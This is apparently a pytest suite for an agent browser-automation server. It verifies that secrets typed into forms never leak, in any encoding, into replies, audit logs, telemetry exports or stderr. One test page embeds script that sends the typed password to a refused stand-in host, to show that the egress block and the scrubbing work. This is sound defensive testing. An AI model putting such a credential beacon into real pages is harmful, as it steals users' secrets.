"""A secret, and text the agent typed, in whatever spelling the page gives them back.

A GET form puts a filled value into the next page's URL: `+` for a space, percent-encoded in UTF-8
or in the page's legacy charset, or as `&#N;` where that charset cannot hold a character. JSON
escapes quotes and backslashes. Each value of a table, filled on pages of several charsets and
read back every way an agent can, must appear in no reply, audit record, OTLP export, report or
server stderr, in any spelling; typed text (not a secret) may come back to the agent but never
reaches a record in clear. Real Chromium and agent-browser, a real OTLP/HTTP receiver, loopback
only."""

from __future__ import annotations

import html
import json
import os
import subprocess
import tempfile
import threading
import time
import urllib.parse
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from server import BlockingServer, describe
from test_secrets import otlp_receiver

pytestmark = pytest.mark.chromium

# Spaces, quotes, backslash, `+`, `&`, `=`, `%`, non-ASCII (Latin-1, beyond it), four characters.
VALUES = [
    "correct horse battery",
    'pa"ss\\w0rd',
    "a+b+c+d plus",
    "me&you=us;ok",
    "100%sure #1",
    "pässwörd Ünï",
    "€uro–Łódź",
    "q~ß!",
]
# The Content-Type charset of the login page; "" declares none (Chromium then reads it as windows-1252).
CHARSETS = ["utf-8", "", "iso-8859-2"]


def spellings(value: str) -> set[str]:
    """Every spelling of `value` a browser or serialiser is known to produce."""
    forms = {value}
    inner = json.dumps(value)[1:-1]
    forms |= {inner, json.dumps(inner)[1:-1], json.dumps(value, ensure_ascii=False)[1:-1]}
    forms.add(html.escape(value, quote=True))
    for charset in ("utf-8", "windows-1252", "iso-8859-2"):
        raw = value.encode(charset, errors="xmlcharrefreplace")
        for quote in (urllib.parse.quote_plus, urllib.parse.quote):
            once = quote(raw, safe="")
            forms |= {once, once.lower(), quote(once, safe="")}
    # What survives a lossy decode of a legacy-charset spelling must not be the value either.
    return {f for f in forms if f}


def leaks(value: str, texts: dict[str, str | bytes]) -> list[str]:
    found = []
    for where, text in texts.items():
        haystack = text.encode() if isinstance(text, str) else text
        for form in spellings(value):
            if form.encode() in haystack:
                found.append(f"{where}: {form!r}")
    return found


@dataclass
class Site:
    """Login pages in a chosen charset, and what their forms sent."""

    port: int = 0
    received: list[str] = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def url(self, path: str) -> str:
        return f"http://127.0.0.1:{self.port}{path}"


@contextmanager
def login_site() -> Iterator[Site]:
    site = Site()

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, fmt: str, *args: object) -> None:
            pass

        def do_GET(self) -> None:  # noqa: N802
            parsed = urllib.parse.urlsplit(self.path)
            query = urllib.parse.parse_qs(parsed.query)
            if parsed.path == "/login":
                charset = query.get("cs", [""])[0]
                body = (
                    "<!doctype html><html><head><title>Login</title></head><body>"
                    '<form action="/landing" method="get"><label for=pw>Password</label>'
                    '<input id="pw" name="pw"><button id="go" type="submit">Go</button></form>'
                    "</body></html>"
                ).encode()
                ctype = f"text/html; charset={charset}" if charset else "text/html"
            elif parsed.path == "/beacon":
                # The bound page sends what was typed to a host the policy refuses (127.0.0.2 stands
                # in for one elsewhere; the egress proxy refuses it before connecting).
                target = query.get("to", [""])[0]
                body = (
                    "<!doctype html><title>Beacon</title><input id=pw>"
                    "<script>document.getElementById('pw').addEventListener('change', e => {"
                    f"fetch('{target}/p/' + encodeURIComponent(e.target.value)).catch(() => {{}});"
                    "document.title = 'sent';});</script>"
                ).encode()
                ctype = "text/html; charset=utf-8"
            elif parsed.path == "/short":
                # Fields shorter than the secret: the browser keeps only its first characters.
                body = (
                    "<!doctype html><title>Short</title>"
                    "<label for=pw>PIN</label><input id=pw type=password maxlength=12>"
                    "<label for=t>Code</label><input id=t maxlength=10>"
                ).encode()
                ctype = "text/html; charset=utf-8"
            elif parsed.path == "/echo":
                # The bound page shows what was typed as the browser renders text: whitespace
                # collapsed, and upper-cased by CSS.
                body = (
                    "<!doctype html><title>Echo</title><input id=pw><p id=plain></p>"
                    "<p id=upper style='text-transform: uppercase'></p>"
                    "<script>document.getElementById('pw').addEventListener('change', e => {"
                    "for (const id of ['plain', 'upper']) document.getElementById(id).textContent = e.target.value;"
                    "document.title = e.target.value;});</script>"
                ).encode()
                ctype = "text/html; charset=utf-8"
            elif parsed.path == "/landing":
                with site.lock:
                    site.received.append(parsed.query)
                shown = html.escape(urllib.parse.unquote_plus(parsed.query, encoding="latin-1"))
                body = f"<!doctype html><title>Landing</title><p id=got>{shown}</p>".encode()
                ctype = "text/html; charset=utf-8"
            else:
                self.send_error(404)
                return
            self.send_response(200)
            self.send_header("Content-Type", ctype)
            self.send_header("Content-Length", str(len(body)))
            self.send_header("Cache-Control", "no-store")
            self.end_headers()
            self.wfile.write(body)

    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    site.port = httpd.server_address[1]
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield site
    finally:
        httpd.shutdown()


def secrets_file(site: Site) -> Path:
    directory = Path(tempfile.mkdtemp(prefix="bs-spellings-", dir="/var/tmp"))
    path = directory / "secrets.json"
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
    with os.fdopen(fd, "w") as fh:
        json.dump({f"s{i}": {"value": v, "hosts": [f"127.0.0.1:{site.port}"]} for i, v in enumerate(VALUES)}, fh)
    return path


def one_secret(scratch, site: Site, name: str, value: str) -> Path:
    """A secrets file (0600, outside /tmp) with `name` bound to the site."""
    path = scratch(f"bs-{name}-", under="/var/tmp") / "secrets.json"
    path.write_text(json.dumps({name: {"value": value, "hosts": [f"127.0.0.1:{site.port}"]}}))
    path.chmod(0o600)
    return path


def reports(srv: BlockingServer) -> dict[str, str]:
    made = {}
    for fmt in ("table", "json", "html", "ocsf"):
        done = subprocess.run(
            [str(srv.cfg.server_bin), "audit", "report", "--format", fmt, str(srv.cfg.audit_log)],
            capture_output=True,
            text=True,
            timeout=60,
        )
        assert done.stdout.strip(), f"the {fmt} report is empty: {done.stderr}"
        made[f"report {fmt}"] = done.stdout
    return made


def submit(srv: BlockingServer, sid: str, site: Site, charset: str, text: str) -> list[dict]:
    """Fill the login form with `text`, send it, and read the result every way an agent can."""
    replies = []

    def call(argv: list[str]) -> dict:
        is_error, reply = srv.call(sid, argv)
        assert not is_error and reply["exit_code"] == 0, (argv, describe(reply))
        replies.append(reply)
        return reply

    call(["open", site.url(f"/login?cs={urllib.parse.quote(charset)}")])
    call(["fill", "#pw", text])
    call(["get", "value", "#pw"])
    call(["snapshot", "-i"])
    call(["click", "#go"])
    call(["wait", "--url", "**/landing**"])
    call(["get", "url"])
    call(["get", "text", "#got"])
    call(["get", "title"])
    call(["close"])
    return replies


def test_a_secret_is_in_no_reply_record_export_report_or_log_in_any_spelling(start_server) -> None:
    with otlp_receiver() as (bodies, otlp_port), login_site() as site:
        srv = start_server(
            extra_args=["--secrets", str(secrets_file(site))],
            env_extra={
                "OTEL_EXPORTER_OTLP_ENDPOINT": f"http://127.0.0.1:{otlp_port}",
                "OTEL_EXPORTER_OTLP_PROTOCOL": "http/protobuf",
            },
        )
        replies: list[dict] = []
        for c, charset in enumerate(CHARSETS):
            for i, _ in enumerate(VALUES):
                replies += submit(srv, f"sp-{c}-{i}", site, charset, f"{{{{secret:s{i}}}}}")
        srv.stop()
        deadline = time.monotonic() + 10
        while not any(b"browser_shell.audit" in b for b in bodies) and time.monotonic() < deadline:
            time.sleep(0.1)

    # Positive control: the page really sent every value (so each spelling was there to leak).
    assert len(site.received) == len(CHARSETS) * len(VALUES), site.received
    for query, value in zip(site.received, VALUES * len(CHARSETS)):
        sent = urllib.parse.parse_qs(query, encoding="latin-1")["pw"][0]
        assert sent in {
            value.encode(cs, errors="xmlcharrefreplace").decode("latin-1") for cs in ("utf-8", "cp1252", "iso-8859-2")
        }, (query, value)
    assert any(b"browser_shell.audit" in b for b in bodies), "the OTLP receiver got no records"
    assert any("{{secret:s0}}" in r["stdout"] for r in replies), "no reply showed a placeholder"

    texts: dict[str, str | bytes] = {
        "replies": json.dumps(replies, ensure_ascii=False),
        "audit log": srv.cfg.audit_log.read_text(),
        "server stderr": srv.cfg.stderr_log.read_text(),
        **reports(srv),
    }
    texts |= {f"OTLP body {n}": body for n, body in enumerate(bodies)}
    found = [f"{value!r} in {leak}" for value in VALUES for leak in leaks(value, texts)]
    assert not found, "\n".join(found)


def test_typed_text_comes_back_to_the_agent_but_no_record_holds_it(start_server) -> None:
    typed = "my quiet search é+&=x"
    with otlp_receiver() as (bodies, otlp_port), login_site() as site:
        srv = start_server(
            env_extra={
                "OTEL_EXPORTER_OTLP_ENDPOINT": f"http://127.0.0.1:{otlp_port}",
                "OTEL_EXPORTER_OTLP_PROTOCOL": "http/protobuf",
            },
        )
        replies = []
        for c, charset in enumerate(CHARSETS):
            replies += submit(srv, f"ty-{c}", site, charset, typed)
        srv.stop()
        deadline = time.monotonic() + 10
        while not any(b"browser_shell.audit" in b for b in bodies) and time.monotonic() < deadline:
            time.sleep(0.1)
    assert len(site.received) == len(CHARSETS), site.received
    # The agent may see what it typed: the page's URL carries it.
    urls = [json.loads(r["stdout"]).get("url", "") for r in replies if '"url"' in r["stdout"]]
    assert any("quiet" in url for url in urls), urls

    records = [json.loads(line) for line in srv.cfg.audit_log.read_text().splitlines()]
    landed = [r["page_url"] for r in records if "/landing" in r.get("page_url", "")]
    assert landed and all("[typed:len=21:mac=" in url for url in landed), landed
    intents = [r for r in records if r["phase"] == "intent" and r["argv"][0] == "fill"]
    marker_mac = intents[0]["argv"][2]["mac"]
    assert all(f"mac={marker_mac}]" in url for url in landed), (marker_mac, landed)

    texts: dict[str, str | bytes] = {
        "audit log": srv.cfg.audit_log.read_text(),
        "server stderr": srv.cfg.stderr_log.read_text(),
        **reports(srv),
    }
    texts |= {f"OTLP body {n}": body for n, body in enumerate(bodies)}
    assert any(b"browser_shell.audit" in b for b in bodies), "the OTLP receiver got no records"
    found = leaks(typed, texts) + leaks("quiet search", texts)
    assert not found, "\n".join(found)


def test_a_secret_a_page_sends_to_a_refused_host_reaches_no_diagnostic_line(start_server) -> None:
    with login_site() as site:
        srv = start_server(extra_args=["--secrets", str(secrets_file(site))])
        beacon = site.url(f"/beacon?to={urllib.parse.quote(f'http://127.0.0.2:{site.port}')}")
        srv.ok("beacon", ["open", beacon])
        srv.ok("beacon", ["fill", "#pw", "{{secret:s0}}"])
        srv.ok("beacon", ["press", "Tab"])  # `change` fires as the field loses focus
        deadline = time.monotonic() + 15
        blocked = []
        while not blocked and time.monotonic() < deadline:
            records = [json.loads(line) for line in srv.cfg.audit_log.read_text().splitlines()]
            blocked = [r for r in records if r.get("rule") == "request.blocked" and "127.0.0.2" in r.get("reason", "")]
            time.sleep(0.1)
        srv.stop()
    # Positive control: the page did send it, and the refusal is on the record (with its placeholder).
    assert blocked, "the page's request to the refused host was never refused on the record"
    assert "{{secret:s0}}" in blocked[0]["reason"], blocked[0]
    texts = {"server stderr": srv.cfg.stderr_log.read_text(), "audit log": srv.cfg.audit_log.read_text()}
    found = leaks(VALUES[0], texts)
    assert not found, "\n".join(found)


def test_a_secret_as_the_browser_renders_it_is_scrubbed(start_server, scratch) -> None:
    value = "Wide  Open\tSesame 42"
    rendered = ["Wide Open Sesame 42", "WIDE OPEN SESAME 42", value]
    with login_site() as site:
        srv = start_server(extra_args=["--secrets", str(one_secret(scratch, site, "wide", value))])
        srv.ok("echo", ["open", site.url("/echo")])
        srv.ok("echo", ["fill", "#pw", "{{secret:wide}}"])
        srv.ok("echo", ["press", "Tab"])  # `change` fires as the field loses focus
        replies = [srv.call("echo", argv)[1] for argv in (
            ["get", "text", "#plain"], ["get", "text", "#upper"], ["get", "title"], ["snapshot"],
        )]
        srv.stop()
    shown = json.dumps(replies, ensure_ascii=False)
    # Positive control: the page did show it, where the value would be.
    assert shown.count("{{secret:wide}}") >= 4, shown
    texts = {"replies": shown, "audit log": srv.cfg.audit_log.read_text(), "server stderr": srv.cfg.stderr_log.read_text()}
    found = [f"{form!r} in {where}" for form in rendered for where, text in texts.items() if form in text]
    assert not found, "\n".join(found)


def test_a_secret_cut_by_a_fields_maxlength_reads_back_as_its_placeholder(start_server, scratch) -> None:
    value = "k3y-0f-tw3nty-ch4rs!"
    assert len(value) == 20
    with login_site() as site:
        srv = start_server(extra_args=["--secrets", str(one_secret(scratch, site, "long", value))])
        srv.ok("cut", ["open", site.url("/short")])
        for selector in ("#pw", "#t"):
            srv.ok("cut", ["fill", selector, "{{secret:long}}"])
        replies = [srv.call("cut", argv)[1] for argv in (
            ["get", "value", "#pw"], ["get", "value", "#t"], ["get", "attr", "#t", "value"], ["snapshot"],
        )]
        srv.stop()
    shown = json.dumps(replies)
    # Positive control: the fields held something, shown as the placeholder.
    assert shown.count("{{secret:long}}") >= 3, shown
    texts = {"replies": shown, "audit log": srv.cfg.audit_log.read_text(), "server stderr": srv.cfg.stderr_log.read_text()}
    found = [f"{value[:n]!r} in {where}" for n in (10, 12) for where, text in texts.items() if value[:n] in text]
    assert not found, "\n".join(found)


def test_a_secret_in_the_gates_trace_lines_is_scrubbed_too(start_server, scratch) -> None:
    # At trace level the gate prints CDP messages whole, the typed text among them: every diagnostic
    # line passes the records' scrubber.
    value = "tr4ce-me-n0t please"
    with login_site() as site:
        srv = start_server(
            extra_args=["--secrets", str(one_secret(scratch, site, "traced", value))],
            env_extra={"RUST_LOG": "info,browser_shell::gate=trace"},
        )
        srv.ok("trace", ["open", site.url("/login")])
        srv.ok("trace", ["fill", "#pw", "{{secret:traced}}"])
        srv.stop()
    stderr = srv.cfg.stderr_log.read_text()
    # Positive control: the trace did print the message that typed it, with the placeholder in its place.
    assert "{{secret:traced}}" in stderr and "browser_shell::gate" in stderr, stderr[-2000:]
    found = [form for form in spellings(value) if form in stderr]
    assert not found, found
